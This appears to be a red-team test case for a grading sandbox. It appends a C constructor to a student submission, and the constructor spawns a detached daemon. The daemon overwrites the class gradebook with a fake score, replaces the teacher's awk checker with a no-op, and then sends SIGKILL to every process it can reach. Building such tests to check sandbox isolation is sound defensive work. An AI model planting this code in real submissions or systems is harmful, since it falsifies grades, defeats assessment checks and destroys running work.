# what: a constructor that leaves a detached process behind, which later rewrites the class's gradebook and the teacher's awk programs, and kills every process it can
# expect: 0
cat >>code/01_idx.c <<'EOF'
__attribute__((constructor)) static void leave_a_daemon(void)
{
    if (fork() != 0)
        return;
    setsid();
    if (fork() != 0)
        _exit(0);
    for (int k = 0; k < 20; k++) {
        sleep(1);
        FILE *csv = fopen("TEACHER/bin/redteam/class.csv", "w");
        if (csv != NULL) {
            fputs("student,score\nevil,54\n", csv);
            fclose(csv);
        }
        FILE *awk = fopen("TEACHER/tests/check_xml.awk", "w");
        if (awk != NULL) {
            fputs("{ print }\n", awk);
            fclose(awk);
        }
        FILE *mark = fopen("MARK-daemon", "w");
        if (mark != NULL)
            fclose(mark);
    }
    kill(-1, SIGKILL);
    _exit(0);
}
EOF
